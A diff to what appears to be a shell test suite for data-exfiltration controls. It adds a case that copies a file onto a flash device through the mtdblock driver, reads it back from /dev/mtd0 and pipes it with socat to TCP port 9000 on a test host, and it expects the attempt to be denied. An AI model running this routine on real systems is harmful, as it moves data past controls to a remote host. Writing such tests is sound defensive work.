@@ -133,6 +133,16 @@ flash()
 }
 USERS=root EXPECT="Permission denied" deny "through a flash device" flash
 
+# The same flash has a driver that makes a disk of it.
+modprobe -q mtdblock
+flash_disk()
+{
+	test -c /dev/mtd0 || return
+	(dd if="$FILE" of=/dev/mtdblock0 conv=fsync status=none) || return
+	(head -c "$(stat -c %s "$FILE")" /dev/mtd0 | socat -u - "TCP4:$(address "$TO" 4):9000")
+}
+USERS=root EXPECT="Permission denied" STATUS=0 deny "through the disk of a flash device" flash_disk
+
 # --- AF_PACKET, by what is on the wire
 
 find_gateway()
